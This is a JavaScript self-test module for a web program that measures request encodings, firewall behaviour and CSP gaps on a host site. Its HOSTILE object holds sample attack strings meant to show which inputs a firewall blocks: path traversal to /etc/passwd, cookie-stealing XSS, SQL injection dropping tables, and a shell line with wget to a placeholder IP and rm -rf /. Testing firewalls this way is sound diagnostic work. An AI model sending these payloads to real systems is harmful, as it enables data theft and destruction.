/** What the self-test measures with, and how it judges: nothing here knows the document. */
import { toBase32, toBase64, utf8 } from '../util/bytes.js';
/** @typedef {{status: number, ours: any, text: string, headers: Headers, ms: number}} Answer status 0: none came; ours: the program's JSON, else null
 * @typedef {'d'|'h'} Field */

const encode = { d: toBase64, h: toBase32 };
/** @param {Field} field @param {object} json */
export const form = (field, json) => `${field}=${encode[field](utf8(JSON.stringify(json)))}`;

/** @param {string} url @param {RequestInit} [init] @returns {Promise<Answer>} never throws */
export async function ask(url, init = {}) {
  const began = performance.now();
  try {
    const answer = await fetch(url, { signal: AbortSignal.timeout(40000), ...init }),
      text = await answer.text();
    let ours = null;
    try {
      ours = JSON.parse(text);
    } catch {
      /* somebody else's */
    }
    return {
      status: answer.status,
      ours: ours?.polycircle === 1 ? ours : null,
      text,
      headers: answer.headers,
      ms: performance.now() - began,
    };
  } catch {
    return {
      status: 0,
      ours: null,
      text: '',
      headers: new Headers(),
      ms: performance.now() - began,
    };
  }
}

/** @param {string} url @param {string} body @param {RequestCredentials} [credentials] */
export const post = (url, body, credentials = 'omit') =>
  ask(url, {
    method: 'POST',
    body,
    credentials,
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  });

/** The encoding that gets through, as far as is known. */
export const wire = { field: /** @type {Field} */ ('d') };

/** An action of the owner's, past a firewall that refuses one encoding. @param {string} base @param {object} fields @returns {Promise<any>} the answer @throws {Error} with words */
export async function owner(base, fields) {
  for (const field of /** @type {Field[]} */ ([wire.field, wire.field == 'd' ? 'h' : 'd'])) {
    const { ours } = await post(`${base}owner`, form(field, { v: 1, ...fields }));
    if (!ours) continue;
    wire.field = field;
    if (ours.error) throw Object.assign(new Error(ours.text), { code: ours.error });
    return ours;
  }
  throw new Error(
    'The program did not answer: the host may be busy, or its firewall refuses what is sent. Try again in a moment.',
  );
}

/** What firewalls look for, as it would stand in a message. */
export const HOSTILE = {
  SDP: 'v=0\r\no=- 4611731400430051336 2 IN IP4 127.0.0.1\r\ns=-\r\na=candidate:1 1 UDP 2122252543 192.0.2.7 50000 typ host\r\na=ice-pwd:asd88fgpdd777uzjYhagZg',
  '../': '../../../../etc/passwd',
  '<script>': '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  'shell words': '; cat /etc/passwd | sh -c "$(id)" && wget http://192.0.2.1/x; rm -rf /',
  'SQL words':
    "' or 1=1; drop table users; union select password from users where '1'='1' order by 1 --",
};

/** A body of exactly so many bytes on the wire (or a few less, where the encoding has no such length). @param {Field} field @param {number} bytes */
export function filled(field, bytes) {
  const room =
    Math.floor((bytes - 2) * (field == 'd' ? 3 / 4 : 5 / 8)) - '{"v":1,"fill":""}'.length;
  const random = crypto.getRandomValues(new Uint8Array(4096)),
    letters = Array.from(random, b => String.fromCharCode(97 + (b % 26))).join('');
  return form(field, { v: 1, fill: letters.repeat(Math.ceil(room / 4096)).slice(0, room) });
}

/** The most that were inside at one moment. @param {{from: number, to: number}[]} times */
export const overlap = times =>
  Math.max(0, ...times.map(({ from }) => times.filter(t => t.from <= from && from < t.to).length));

/** A tenth of what the host runs at a time, over how long one takes: between 1 and 20 a second.
 * @param {number} slots requests at a time @param {number} ms that one request takes */
export const pollBudget = (slots, ms) =>
  Math.min(20, Math.max(1, Math.floor(slots / 10 / (Math.max(5, ms) / 1000))));

/** Directive, its fall-backs, what the client needs there. CSP Level 3 section 6.8. */
const NEEDS = /** @type {[string, string[], string[]][]} */ ([
  ['script-src', ['default-src'], ['self', 'blob:']],
  ['connect-src', ['default-src'], ['self']],
  ['media-src', ['default-src'], ['self', 'blob:']],
  ['worker-src', ['child-src', 'script-src', 'default-src'], ['self']],
]);

/** @param {string} policy of the site's page @param {string} origin of the program, which is also the page's
 * @returns {string[]} the directives that are missing in it, as they would stand there */
export function missing(policy, origin) {
  const directives = new Map(
    policy
      .split(';')
      .map(d => d.trim().split(/\s+/))
      .filter(([name]) => name)
      .reverse()
      .map(([name, ...sources]) => [name.toLowerCase(), sources.map(s => s.toLowerCase())]),
  );
  const { protocol, host } = new URL(origin);
  const allows = (/** @type {string[]} */ sources, /** @type {string} */ need) =>
    sources.some(s =>
      need == 'blob:'
        ? s == need
        : s == '*' ||
          s == "'self'" ||
          s == protocol ||
          (protocol == 'https:' && s == 'http:') ||
          s == host ||
          s.replace(/\/$/, '') == origin ||
          s.startsWith(origin + '/') ||
          (s.startsWith('*.') && host.endsWith(s.slice(1))),
    );
  return NEEDS.flatMap(([name, fallbacks, needs]) => {
    const effective = [name, ...fallbacks].find(d => directives.has(d)),
      sources = directives.get(effective ?? '');
    if (!sources) return [];
    const lacking = needs
      .filter(need => !allows(sources, need))
      .map(need => (need == 'self' ? "'self'" : need));
    return lacking.length
      ? [`${name} ${[...sources.filter(s => s != "'none'"), ...lacking].join(' ')}`]
      : [];
  });
}

/** The policies of a page: of its header and its <meta>. @param {string|null} header @param {string} html */
export function policies(header, html) {
  const metas = [
    ...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('meta[http-equiv]'),
  ]
    .filter(m => m.getAttribute('http-equiv')?.toLowerCase() == 'content-security-policy')
    .map(m => m.getAttribute('content') ?? '');
  return [...(header?.split(/,\s*/) ?? []), ...metas].filter(Boolean);
}
